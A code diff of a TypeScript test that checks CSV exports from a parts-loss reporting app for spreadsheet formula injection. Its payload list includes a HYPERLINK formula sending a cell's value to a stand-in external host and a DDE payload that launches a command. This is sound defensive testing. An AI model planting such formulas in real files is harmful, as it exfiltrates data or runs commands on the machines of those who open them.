@@ -2,25 +2,13 @@ import { api } from '@mostrador/contract/paths';
 import { parse } from 'csv-parse/sync';
 import type { Ask } from './ask.ts';
 import type { Faults } from './outcome.ts';
+import { reportFilledWith } from './reports.ts';
 
 const formulas = ['=HYPERLINK("http://otro.example?x="&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '=cmd|" /C calc"!A0'];
-const report = (words: string) => ({
-  perdida: {
-    formato: 'nacional',
-    car_marca: words,
-    car_modelo: words,
-    car_anio: '2001',
-    car_motor: words,
-    cantidad: '1',
-    marca: words,
-    codigo_parte: words.slice(0, 40),
-    categoria: 'Otro',
-    plaza: 'Tijuana',
-    sucursal: 'Otay TJ',
-    nombre: `${words} "comillas", coma`,
-    mensaje: `${words}\nsegunda línea`,
-  },
-});
+const report = (words: string) => {
+  const { perdida } = reportFilledWith(words);
+  return { perdida: { ...perdida, nombre: `${words} "comillas", coma`, mensaje: `${words}\nsegunda línea` } };
+};
 
 /** A spreadsheet that opens an export computes nothing, and no cell moves into another. */
 export async function proveExports(ask: Ask, cookie: string, faults: Faults): Promise<string[]> {
